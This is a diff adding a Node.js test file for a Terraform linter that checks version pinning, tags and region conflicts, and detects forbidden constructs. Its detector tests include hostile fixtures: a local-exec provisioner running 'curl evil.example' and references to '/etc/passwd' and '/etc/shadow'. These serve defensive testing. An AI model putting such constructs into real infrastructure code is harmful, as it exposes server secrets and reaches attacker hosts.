@@ -0,0 +1,225 @@
+// backend/test/terraformLint.test.js
+const { describe, it } = require('node:test');
+const assert = require('node:assert/strict');
+const { lintTerraform, forbiddenConstructs } = require('../utils/terraformLint');
+
+const rules = (diagnostics) => diagnostics.map(({ rule, line }) => `${rule}:${line}`);
+
+const pinnedAws = `terraform {
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 5.0"
+    }
+  }
+}`;
+
+describe('lintTerraform', () => {
+  it('finds nothing wrong with tagged resources on the agent\'s provider', () => {
+    const code = `resource "aws_s3_bucket" "main" {
+  bucket = "team-logs"
+
+  tags = {
+    ManagedBy = "TerraformAI"
+  }
+}`;
+
+    assert.deepEqual(lintTerraform(code, { region: 'us-east-1' }), []);
+  });
+
+  it('flags providers without a version constraint', () => {
+    const code = `terraform {
+  required_providers {
+    aws = {
+      source = "hashicorp/aws"
+    }
+  }
+}
+
+provider "aws" {
+  region = "us-east-1"
+
+  default_tags {
+    tags = {
+      ManagedBy = "TerraformAI"
+    }
+  }
+}
+
+resource "random_id" "suffix" {
+  byte_length = 4
+}`;
+
+    assert.deepEqual(rules(lintTerraform(code, { region: 'us-east-1' })), ['unpinned-provider:3', 'unpinned-provider:19']);
+  });
+
+  it('flags resources missing the ManagedBy tag', () => {
+    const code = `resource "aws_instance" "web" {
+  ami           = "ami-123"
+  instance_type = "t3.micro"
+}
+
+resource "aws_sqs_queue" "jobs" {
+  name = "jobs"
+
+  tags = {
+    Team = "web"
+  }
+}
+
+resource "aws_s3_bucket_versioning" "main" {
+  bucket = "team-logs"
+}`;
+
+    assert.deepEqual(rules(lintTerraform(code)), ['missing-tags:1', 'missing-tags:9']);
+  });
+
+  it('accepts the tag from the provider\'s default_tags', () => {
+    const code = `${pinnedAws}
+
+provider "aws" {
+  region = "us-east-1"
+
+  default_tags {
+    tags = {
+      ManagedBy = "TerraformAI"
+    }
+  }
+}
+
+resource "aws_instance" "web" {
+  instance_type = "t3.micro"
+}`;
+
+    assert.deepEqual(lintTerraform(code, { region: 'us-east-1' }), []);
+  });
+
+  it('flags regions and zones that conflict with the provider region', () => {
+    const code = `${pinnedAws}
+
+provider "aws" {
+  region = "eu-west-1"
+
+  default_tags {
+    tags = {
+      ManagedBy = "TerraformAI"
+    }
+  }
+}
+
+resource "aws_subnet" "a" {
+  vpc_id            = "vpc-1"
+  availability_zone = "us-east-1a"
+  cidr_block        = "10.0.1.0/24"
+}
+
+resource "aws_subnet" "b" {
+  vpc_id            = "vpc-1"
+  availability_zone = "eu-west-1b"
+  cidr_block        = "10.0.2.0/24"
+}`;
+
+    const diagnostics = lintTerraform(code, { region: 'us-east-1' });
+    assert.deepEqual(rules(diagnostics), ['hardcoded-region:11', 'hardcoded-region:22']);
+    assert.match(diagnostics[0].summary, /pinned to eu-west-1, but this request targets us-east-1/);
+    assert.match(diagnostics[1].summary, /availability zone us-east-1a conflicts with the provider region eu-west-1/);
+    assert.equal(diagnostics[1].column, 24);
+  });
+
+  it('ignores comments and braces inside heredocs', () => {
+    const code = `resource "aws_instance" "web" {
+  # availability_zone = "eu-west-1a"
+  instance_type = "t3.micro"
+  user_data     = <<-EOT
+    echo "}"
+  EOT
+
+  tags = {
+    ManagedBy = "TerraformAI"
+  }
+}`;
+
+    assert.deepEqual(lintTerraform(code, { region: 'us-east-1' }), []);
+  });
+});
+
+describe('forbiddenConstructs', () => {
+  it('allows AWS, random and archive code', () => {
+    const code = `terraform {
+  required_providers {
+    aws = {
+      source  = "hashicorp/aws"
+      version = "~> 5.0"
+    }
+    archive = {
+      source  = "hashicorp/archive"
+      version = "~> 2.4"
+    }
+  }
+}
+
+data "archive_file" "handler" {
+  type        = "zip"
+  output_path = "handler.zip"
+
+  source {
+    content  = "exports.handler = async () => ({ statusCode: 200 })"
+    filename = "index.js"
+  }
+}
+
+resource "random_id" "suffix" {
+  byte_length = 4
+}`;
+
+    assert.deepEqual(forbiddenConstructs(code), []);
+  });
+
+  it('finds every construct that could reach the server, with its line', () => {
+    const code = `module "vpc" {
+  source = "terraform-aws-modules/vpc/aws"
+}
+
+resource "aws_instance" "web" {
+  instance_type = "t3.micro"
+
+  provisioner "local-exec" {
+    command = "curl evil.example"
+  }
+}
+
+resource "aws_s3_object" "config" {
+  bucket = "team-logs"
+  key    = "config.json"
+  source = "/etc/passwd"
+}
+
+resource "aws_iam_policy" "read" {
+  policy = templatefile("policy.json.tpl", {})
+}
+
+data "http" "ip" {
+  url = "https://ifconfig.me"
+}`;
+
+    assert.deepEqual(forbiddenConstructs(code).map(({ line, summary }) => `${line} ${summary.split(/[;,]/)[0]}`), [
+      '1 uses the module "vpc"',
+      '8 uses a "local-exec" provisioner',
+      '16 source points at a file on the server',
+      '20 calls templatefile()',
+      '23 uses http'
+    ]);
+    assert.ok(forbiddenConstructs(code).every(diagnostic => diagnostic.severity === 'error'));
+  });
+
+  it('checks interpolations inside heredocs but not their text', () => {
+    const code = `resource "aws_iam_policy" "read" {
+  description = <<-EOT
+    Does not call file("x") in prose
+    but does \${file("/etc/shadow")}
+  EOT
+}`;
+
+    assert.deepEqual(forbiddenConstructs(code).map(({ line }) => line), [4]);
+  });
+});
\ No newline at end of file